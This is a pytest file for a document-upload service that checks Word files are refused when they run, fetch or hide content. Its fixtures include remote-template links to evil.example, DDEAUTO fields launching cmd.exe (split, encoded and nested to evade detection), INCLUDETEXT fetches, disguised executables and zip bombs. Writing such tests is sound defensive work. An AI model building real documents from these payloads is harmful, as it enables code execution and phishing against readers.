"""A Word file that runs, fetches or hides something is refused; one as people write them is kept, with all its pictures."""

import io

import pytest
import xlsxwriter
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE as RELATED
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml

from app.documents import office, package
from app.errors import Problem
from tests.documents.files import DOCX_TYPE, EXECUTABLE, PNG, docx
from tests.documents.files import package as zipped
from tests.documents.test_attacks import refused
from tests.documents.test_documents import send

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


def with_part(name: str, content: bytes) -> bytes:
    return docx(**{name: content})


def words(xml: str) -> bytes:
    return with_part("word/footer1.xml", f"<w:ftr {W}><w:p>{xml}</w:p></w:ftr>".encode())


def code(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def field(*codes: str) -> str:
    """A field as Word writes it: its code lies between two marks, over as many runs as it pleases."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    return mark("begin") + "".join(codes) + mark("separate") + "<w:r><w:t>x</w:t></w:r>" + mark("end")


def related(kind: str, target: str, mode: str = "External") -> bytes:
    said = f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return with_part("word/_rels/settings.xml.rels", f'<Relationships xmlns="{space}">{said}</Relationships>'.encode())


def typed(content_type: str, encoding: str = "utf-8") -> bytes:
    said = f'<Override PartName="/word/document.xml" ContentType="{content_type}"/>'
    return f'<?xml version="1.0" encoding="{encoding}"?><Types>{said}</Types>'.encode(encoding)


def workbook(**parts: bytes) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", **parts})


SHEET = "word/embeddings/Microsoft_Excel_Sheet.xlsx"
RUNS_FETCHES_OR_HIDES = {
    "a template from the internet": related("attachedTemplate", "http://evil.example/t.dotm"),
    "a template from a server of files": related("attachedTemplate", "file://evil.example/share/t.dotm"),
    "a template from a share": related("attachedTemplate", r"\\evil.example\share\t.dotm"),
    "a template that is not called external": related("attachedTemplate", "http://evil.example/t.dotm", "Internal"),
    "a picture from elsewhere": related("image", "http://evil.example/seen.png"),
    "an object from elsewhere": related("oleObject", "http://evil.example/x.html!"),
    "a frame from elsewhere": related("frame", "http://evil.example/x.htm"),
    "a document within, from elsewhere": related("aFChunk", "http://evil.example/x.rtf"),
    "a kind that only ends as links do": related("image/hyperlink", "http://evil.example/seen.png"),
    "an object to start on the reader's disk": related("oleObject", r"file:///C:\Windows\System32\cmd.exe"),
    "a field that starts a program": words(field(code(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '))),
    "the same, asked first": words(field(code(r"DDE cmd x"))),
    "a field split over runs": words(field(code(" D"), code("DEA"), code("UTO cmd x"))),
    "a field split by a comment, in characters by number": words(field(code("D<!-- x -->&#68;EAUTO cmd x"))),
    "a field in small letters": words(field(code("ddeauto cmd x"))),
    "a simple field": words(r'<w:fldSimple w:instr=" DDEAUTO cmd x "/>'),
    "a field without marks": words(code("DDEAUTO cmd x")),
    "a field that never ends": words('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + code("DDEAUTO cmd x")),
    "a field whose name another makes up": words(field(field(code("QUOTE 68 68 69")), code(" cmd x"))),
    "a field whose name another ends": words(field(code("DD"), field(code("QUOTE 69")), code(" cmd x"))),
    "a field within a field": words(field(code("IF 1 = 1 "), field(code("DDEAUTO cmd x")))),
    "a field that fetches": words(field(code('INCLUDETEXT "http://evil.example/x"'))),
    "a field in another encoding": with_part(
        "word/document.xml", f"<w:p {W}>{field(code('DDEAUTO cmd x'))}</w:p>".encode("utf-16")
    ),
    "a field in a part without an ending": with_part("word/words", f"<w:p {W}>{code('DDE x')}</w:p>".encode()),
    "an object": with_part("word/embeddings/oleObject1.bin", OLE),
    "an object called a picture": with_part("word/media/image1.png", OLE),
    "a program": with_part("word/embeddings/evil.exe", EXECUTABLE),
    "a program called a picture": with_part("word/media/image1.png", EXECUTABLE),
    "a script": with_part("word/embeddings/evil.bat", b"start calc"),
    "a package that is none of Office": with_part(SHEET, zipped({"evil.exe": EXECUTABLE})),
    "a program in a workbook": with_part(SHEET, workbook(**{"xl/embeddings/evil.exe": EXECUTABLE})),
    "a workbook with macros": with_part(SHEET, workbook(**{"xl/vbaProject.bin": b"x"})),
    "a workbook that starts a program": with_part(
        SHEET,
        workbook(**{"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
    ),
    "a package in a package in a package": with_part(SHEET, workbook(x=workbook(y=zipped({"z": b"z"})))),
    "macros, told in another encoding": docx(types=typed(MACRO_MAIN, "utf-16"), word__other=b"\x01"),
    "macros by another name": docx(types=typed("application/vnd.ms-office.vbaProject")),
    "a control": docx(types=typed("application/vnd.ms-office.activeX+xml")),
    "a document type": with_part("word/x.xml", b'<!DOCTYPE x [<!ENTITY d "DDE">]><x>&d;</x>'),
    "what is no XML": with_part("word/x.xml", b"<w:p><w:r>"),
    "two parts of one name": docx(**{"WORD/document.xml": b"<x/>"}),
}


@pytest.mark.parametrize("content", RUNS_FETCHES_OR_HIDES.values(), ids=RUNS_FETCHES_OR_HIDES)
def test_a_word_file_that_runs_fetches_or_hides_something_is_422(embedded, content):
    status, said = refused(embedded, "letter.docx", content)
    assert status == 422
    assert "Save it as a PDF" in said


def test_the_refusal_says_what_was_found():
    with pytest.raises(Problem, match=r"starts a program \(DDEAUTO"):
        package.refuse_dangers(RUNS_FETCHES_OR_HIDES["a simple field"])
    with pytest.raises(Problem, match=r"fetches something from elsewhere \(attachedTemplate"):
        package.refuse_dangers(RUNS_FETCHES_OR_HIDES["a template from the internet"])


def test_there_may_be_so_much_xml_and_no_more(monkeypatch):
    monkeypatch.setattr(office, "MOST_ELEMENTS", 1000)
    package.refuse_dangers(with_part("word/x.xml", b"<a>" + b"<b/>" * 900 + b"</a>"))
    with pytest.raises(Problem, match="too many parts"):
        package.refuse_dangers(docx(**{f"word/{n}.xml": b"<a>" + b"<b/>" * 600 + b"</a>" for n in range(2)}))


def test_what_lies_within_counts_to_what_may_be_unpacked():
    inner = workbook(**{"xl/big.xml": b"<a>" + b" " * 8_000_000 + b"</a>"})
    with pytest.raises(Problem, match="far larger than it looks"):
        package.refuse_dangers(docx(**{f"word/embeddings/{n}.xlsx": inner for n in range(2)}))


def as_people_write_them() -> bytes:
    """A report with a picture, a table, links, page numbers, a chart with its workbook, and the template it was made from."""
    made, held = Document(), io.BytesIO()
    made.add_picture(io.BytesIO(PNG))
    made.add_table(rows=2, cols=2).cell(0, 0).text = "About DDEAUTO and http://example.org"
    made.part.relate_to("https://www.ipsea.example/law", RELATED.HYPERLINK, is_external=True)
    made.part.relate_to("mailto:sam@council.example", RELATED.HYPERLINK, is_external=True)
    for text in (" PAGE ", ' TOC \\o "1-3" ', ' HYPERLINK "https://www.ipsea.example" ', " = 2 - 1 "):
        made.element.body.insert(0, parse_xml(f"<w:p {W}>{field(code(text))}</w:p>"))
    nested = field(code(" IF "), field(code(" MERGEFIELD sex ")), code(' = "F" "she" "he" '))
    made.element.body.insert(0, parse_xml(f"<w:p {W}>{nested}</w:p>"))
    with xlsxwriter.Workbook(held) as sheet:
        sheet.add_worksheet().write(0, 0, 42)
    chart = Part(
        PackURI("/word/charts/chart1.xml"), "application/vnd.openxmlformats-officedocument.drawingml.chart+xml", b"<c/>"
    )
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    chart.relate_to(Part(PackURI(f"/{SHEET}"), kind, held.getvalue()), RELATED.PACKAGE)
    made.part.relate_to(chart, RELATED.CHART)
    template = "file:///C:\\Users\\sam\\Templates\\Letter.dotx"
    made.part.part_related_by(RELATED.SETTINGS).relate_to(template, f"{OFFICE}/attachedTemplate", is_external=True)
    whole = io.BytesIO()
    made.save(whole)
    return whole.getvalue()


def test_a_word_file_as_people_write_them_is_kept(embedded):
    case, caseworker = embedded.open("2026-01-05"), embedded.actor("caseworker")
    answer = send(embedded, caseworker, case, "report.docx", as_people_write_them())
    assert answer.status_code == 201, answer.text
    assert answer.json()["media_type"] == DOCX_TYPE
